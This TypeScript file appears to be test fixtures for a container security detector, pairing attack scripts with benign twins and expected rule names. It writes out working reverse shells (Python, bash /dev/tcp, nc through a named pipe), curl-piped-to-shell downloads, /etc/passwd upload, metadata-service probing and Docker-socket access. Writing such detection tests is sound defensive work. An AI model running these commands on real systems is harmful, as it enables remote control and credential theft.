/** Attacks over networks, within the network of one container. */
import { ADDRESS, type Attack, internet, ownNetwork, python, server } from "./attack.ts";

const SHELL = (target: string): string =>
  python(`
import os, socket
connection = socket.create_connection(("${target}", 4444))
for number in (0, 1, 2): os.dup2(connection.fileno(), number)
os.execv("/bin/sh", ["sh"])`);

export const networkAttacks: readonly Attack[] = [
  {
    name: "reverse-shell",
    outcome: "succeeds",
    script: server("127.0.0.1", 4444, "touch /srv/owned") + SHELL("127.0.0.1"),
    twin: `${server("127.0.0.1", 4444, "true")}${python(`
import socket, subprocess
connection = socket.create_connection(("127.0.0.1", 4444))
subprocess.run(["sh"], input=connection.recv(100), check=True)`)}`,
    rules: ["Reverse Shell", "Standard Streams Redirected to Network"],
    also: ["Reverse Shell", "Standard Streams Redirected to Network"],
  },
  {
    name: "reverse-shell-of-bash",
    outcome: "succeeds",
    script: `${server("127.0.0.1", 4444, "exit 0")}bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'; true`,
    twin: `${server("127.0.0.1", 4444, "true")}exec 7<>/dev/tcp/127.0.0.1/4444; read -u 7 line; [ "$line" = true ]`,
    rules: ["Reverse Shell", "Standard Streams Redirected to Network"],
    also: ["Reverse Shell", "Standard Streams Redirected to Network"],
  },
  {
    name: "shell-through-named-pipe",
    outcome: "succeeds",
    options: ownNetwork,
    script: `${internet(4444)}rm -f /srv/f; mkfifo /srv/f; cat /srv/f | sh 2>&1 | nc ${ADDRESS} 4444 >/srv/f`,
    twin: `${internet(4444)}mkfifo /srv/f; (echo true >/srv/f &); cat /srv/f; nc ${ADDRESS} 4444 </dev/null`,
    rules: ["Shell Connected Through Named Pipe", "Shell Started Behind Named Pipe"],
  },
  {
    name: "download-piped",
    outcome: "succeeds",
    options: ownNetwork,
    script: `${internet(80)}curl -s http://${ADDRESS}/install | sh`,
    twin: `${internet(80)}curl -s http://${ADDRESS}/install >/srv/install && [ -s /srv/install ]`,
    rules: ["Download Piped to Shell"],
  },
  {
    name: "downloaded",
    outcome: "succeeds",
    options: ownNetwork,
    script: `${internet(80)}curl -s http://${ADDRESS}/again -o /srv/again; cp /bin/true /srv/again2; /srv/again2`,
    twin: `${internet(80)}curl -s http://${ADDRESS}/again -o /srv/again; cp /bin/true /srv/again2; true`,
    rules: ["Downloaded Program Started", "Program Outside of Image Started"],
  },
  {
    name: "tool-of-attacker-connects",
    outcome: "succeeds",
    options: ownNetwork,
    script: `${internet(80)}cp /usr/bin/nc /srv/again; echo | /srv/again -w 2 ${ADDRESS} 80 >/dev/null`,
    twin: `${internet(80)}cp /usr/bin/nc /srv/again; echo | nc -w 2 ${ADDRESS} 80 >/dev/null`,
    rules: ["Program Outside of Image Connected to Internet"],
    also: ["Program Outside of Image Started", "Downloaded Program Started"],
  },
  {
    name: "shell-connects",
    outcome: "succeeds",
    options: ownNetwork,
    script: `${internet(80)}exec 7<>/dev/tcp/${ADDRESS}/80`,
    twin: `${internet(80)}curl -s http://${ADDRESS}/ >/dev/null`,
    rules: ["Offline Tool Connected to Internet"],
  },
  {
    name: "metadata",
    outcome: "succeeds",
    options: ownNetwork,
    script: `ip address add 169.254.169.254/32 dev lo${server("169.254.169.254", 80, "role")}curl -s http://169.254.169.254/latest/meta-data/ >/dev/null`,
    twin: `ip address add 169.254.169.253/32 dev lo${server("169.254.169.253", 80, "role")}curl -s http://169.254.169.253/latest/meta-data/ >/dev/null`,
    rules: ["Metadata Service Reached by Tool"],
  },
  {
    name: "port-by-hand",
    outcome: "succeeds",
    script: "(nc -l -p 4444 127.0.0.1 || nc -l 127.0.0.1 4444) & sleep 0.5; kill %1; true",
    twin: "redis-server --port 4444 --daemonize yes --save '' >/dev/null; redis-cli -p 4444 ping; redis-cli -p 4444 shutdown; true",
    rules: ["Port Opened by Hand"],
  },
  {
    name: "scan",
    outcome: "refused",
    script: python(`
import socket
own = socket.gethostbyname(socket.gethostname())
for port in range(5000, 5040):
    with socket.socket() as one: one.connect_ex((own, port))`),
    twin: python(`
import socket
own = socket.gethostbyname(socket.gethostname())
for _ in range(40):
    with socket.socket() as one: one.connect_ex((own, 5000))`),
    rules: ["Connections Refused by Many Addresses", "Ports of Host Scanned"],
  },
  {
    name: "upload",
    outcome: "succeeds",
    script: `${server("127.0.0.1", 80, "thanks")}curl -s -T /etc/passwd http://127.0.0.1/ >/dev/null; true`,
    twin: `${server("127.0.0.1", 80, "thanks")}curl -s -d status=up http://127.0.0.1/ >/dev/null; true`,
    rules: ["File Uploaded by Transfer Tool"],
  },
  {
    name: "runtime-socket",
    outcome: "succeeds",
    script: `${unixServer("/run/docker.sock")}curl -s --unix-socket /run/docker.sock http://docker/containers/json >/dev/null`,
    twin: `${unixServer("/run/application.sock")}curl -s --unix-socket /run/application.sock http://app/ >/dev/null`,
    rules: ["Runtime Socket Reached From Container"],
  },
];

function unixServer(path: string): string {
  return `
mkfifo /run/ready
cat >/srv/server.py <<'PYTHON'
import socket
listener = socket.socket(socket.AF_UNIX)
listener.bind("${path}")
listener.listen()
open("/run/ready", "w").close()
connection, _ = listener.accept()
connection.recv(4096)
connection.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n[]")
PYTHON
python3 /srv/server.py &
cat /run/ready >/dev/null
`;
}
